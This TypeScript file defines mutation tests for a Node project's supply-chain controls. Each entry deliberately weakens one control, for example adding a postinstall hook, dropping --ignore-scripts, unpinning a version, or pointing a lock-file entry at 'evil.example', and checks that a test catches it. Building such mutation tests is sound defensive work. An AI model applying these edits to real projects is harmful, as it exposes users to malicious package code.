import type { Mutation } from './mutation.ts';

export const supplyChain: readonly Mutation[] = [
  {
    control: 'the package runs nothing where it is installed',
    file: 'package.json',
    find: '"setup": "node scripts/setup.mjs",',
    replace: '"setup": "node scripts/setup.mjs", "postinstall": "node scripts/setup.mjs",',
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'the lock file takes nothing from elsewhere',
    file: 'package-lock.json',
    find: '"node_modules/hono": {',
    replace: `"node_modules/hono": {
      "resolved": "https://evil.example/hono.tgz",`,
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'a tarball holds what is built',
    file: 'package.json',
    find: `"dist",
`,
    replace: `"dist",
    "test",
`,
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'nothing but styles has an effect when it is imported',
    file: 'package.json',
    find: '"**/*.css"',
    replace: '"**/*"',
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'dependencies are of one version',
    file: 'package.json',
    find: '"hono": "4.13.19"',
    replace: '"hono": "^4.13.19"',
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'setting up runs no script of a package',
    file: 'scripts/setup.mjs',
    find: "'ci', '--ignore-scripts',",
    replace: "'ci',",
    tests: ['test/supply-chain.test.ts'],
  },
];
